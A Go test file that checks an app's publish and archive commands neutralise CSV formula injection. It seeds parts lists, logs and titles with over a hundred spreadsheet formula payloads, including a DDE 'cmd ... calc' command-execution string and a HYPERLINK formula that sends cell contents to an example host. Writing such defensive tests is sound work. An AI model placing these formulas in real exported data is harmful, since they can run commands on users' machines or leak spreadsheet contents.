//go:build unix

package app

import (
	"bytes"
	"encoding/csv"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// formulas are a hundred and more cells that a spreadsheet would compute (OWASP, CSV Injection): each beginning with each kind of thing behind it.
func formulas() []string {
	var all []string
	for _, sign := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", "'=", "''+", "=+", "-+", "+-@", "\u00a0="} {
		for _, rest := range []string{"1+1", "cmd|' /C calc'!A0", `HYPERLINK("https://example.org?"&A1,"price")`, "SUM(A1:A9)", "A1", "3.2 V", "fuse, 30 A", `"`, "1e3x"} {
			all = append(all, sign+rest)
		}
	}
	return all
}

// spreadsheetComputes tells whether a spreadsheet would compute a cell. It is told here without the code that writes cells.
func spreadsheetComputes(cell string) bool {
	plain := strings.TrimLeft(cell, " \u00a0")
	if _, err := strconv.ParseFloat(strings.Replace(plain, ",", ".", 1), 64); err == nil || plain == "" {
		return false
	}
	return strings.ContainsRune("=+-@\t\r＝＋－＠", []rune(plain)[0])
}

// No cell of any table that publish and archive write is computed by a spreadsheet, whatever the maker, or a stranger, wrote: in a
// parts list, in a log and its heads, in a table that is linked to, in titles. What was a parts list reads back as the same.
func TestNoPublishedCellIsComputed(t *testing.T) {
	parent := t.TempDir()
	journal := filepath.Join(parent, "journal")
	if err := unpack("small", journal); err != nil {
		t.Fatal(err)
	}
	cells := formulas()
	parts, table := [][]string{{"name", "quantity", "rating", "source", "note"}}, [][]string{append([]string{"what"}, cells...)}
	for k, c := range cells {
		parts = append(parts, []string{c, "1", cells[(k+1)%len(cells)], cells[(k+2)%len(cells)], cells[(k+3)%len(cells)]})
		table = append(table, append([]string{c}, cells...))
	}
	version := filepath.Join(journal, "cart/1-first")
	write := func(name string, rows [][]string) {
		var b bytes.Buffer
		if err := csv.NewWriter(&b).WriteAll(rows); err != nil {
			t.Fatal(err)
		}
		if err := put(filepath.Join(version, name), b.Bytes()); err != nil {
			t.Fatal(err)
		}
	}
	write("parts.csv", parts)
	write("linked.csv", table)
	logs, err := filepath.Glob(filepath.Join(version, "*.csv"))
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range logs { // a column of formulas more, and formulas in its cells
		if base := filepath.Base(name); base == "parts.csv" || base == "linked.csv" {
			continue
		}
		text, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for k := range rows {
			rows[k] = append(rows[k], cells[k%len(cells)])
		}
		write(filepath.Base(name), rows)
	}
	for _, change := range []string{`cart/1-first/version.md append "\n[a table](linked.csv)\n"`, `cart/vehicle.md replace "name: " "name: =1+1 "`} {
		if err := applyTo(journal, change); err != nil {
			t.Fatal(err)
		}
	}
	site, bag := filepath.Join(parent, "site"), filepath.Join(parent, "bag")
	took(t, parent, "publish", journal, "--to", site)
	took(t, parent, "archive", "cart/1-first", "--journal", journal, "--to", bag)
	tables, seen := 0, 0
	for _, dir := range []string{site, bag} {
		err := filepath.WalkDir(dir, func(name string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() || filepath.Ext(name) != ".csv" {
				return err
			}
			text, err := os.ReadFile(name)
			if err != nil {
				return err
			}
			tables++
			r := csv.NewReader(bytes.NewReader(text))
			r.FieldsPerRecord = -1
			rows, err := r.ReadAll()
			for k, row := range rows {
				for _, cell := range row {
					seen++
					if spreadsheetComputes(cell) {
						t.Errorf("%s: row %d: %q", name, k+1, cell)
						return nil
					}
				}
			}
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	if tables < 8 || seen < 5_000 {
		t.Errorf("only %d tables with %d cells were looked at", tables, seen)
	}
	published, err := os.ReadFile(filepath.Join(site, "cart/1-first/parts.csv"))
	if err != nil {
		t.Fatal(err)
	}
	if err := put(filepath.Join(version, "parts.csv"), published); err != nil {
		t.Fatal(err)
	}
	took(t, parent, "publish", journal, "--to", site)
	again, err := os.ReadFile(filepath.Join(site, "cart/1-first/parts.csv"))
	if err != nil || !bytes.Equal(again, published) {
		t.Errorf("the parts list that was published reads back as another: %v", err)
	}
	t.Logf("%d forms in %d tables of %d cells", len(cells), tables, seen)
}
